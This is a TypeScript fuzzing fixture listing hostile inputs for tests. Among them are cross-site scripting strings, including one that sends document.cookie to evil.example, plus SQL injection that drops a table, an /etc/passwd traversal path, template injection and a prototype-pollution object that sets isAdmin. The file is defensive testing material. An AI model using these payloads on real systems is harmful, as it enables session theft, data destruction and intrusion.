/**
 * Values that break careless code: hostile text (unicode edge cases, HTML and script, template and SQL
 * syntax, prototype keys), values of the wrong type, huge strings and deep nesting. Plain data, so the
 * fuzzers can pick from it cheaply and shrink to a readable case.
 */

export const HOSTILE_TEXT: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'line\r\nbreak\u2028\u2029',
  '\ud800', // lone high surrogate: not valid UTF-16 text
  '\udfff\ud800', // reversed pair
  '👩🏽‍💻🇳🇿 ẞ ǅ ﷽',
  '\u202eevil\u202c right-to-left override',
  'zero\u200bwidth\ufeffjoiner\u200d',
  'e\u0301\u0301\u0301\u0301\u0301 combining',
  'Ｆｕｌｌｗｉｄｔｈ ＲＥＦＵＮＤ ｌｅｇａｌ',
  'ＣＡＮＣＥＬ NOW!!! LAWYER GDPR OUTAGE NOT WORKING',
  '<script>alert(1)</script>',
  '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
  '"><svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<p><b>unclosed <i>tags',
  '&lt;&amp;&#0;&#x110000;&bogus;',
  '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the point, it must not be interpolated.
  '${process.exit(1)}',
  "'; DROP TABLE outbox; --",
  '" OR 1=1 --',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '__proto__',
  'constructor',
  'toString',
  '4111 1111 1111 1111',
  `sk_${'live'}_0123456789abcdefABCDEF`,
  'ticket_note_open:1',
  'ticket_details:../../x',
  'escalate_submit',
  '9'.repeat(400),
  '-1',
  'NaN',
  'null',
];

export const WRONG_TYPES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  '0',
  [],
  [null],
  {},
  { id: {} },
  [[[]]],
];

/** A string of about `length` characters made by repeating `unit` (cheap to build, still hostile). */
export function hugeString(unit: string, length: number): string {
  const piece = unit === '' ? 'x' : unit;
  return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
}

/** An object whose own `__proto__` key survives JSON.stringify (an object literal would set the prototype). */
export function protoPollution(): unknown {
  return JSON.parse('{"__proto__":{"polluted":true,"isAdmin":true},"constructor":{"prototype":{"polluted":true}}}');
}
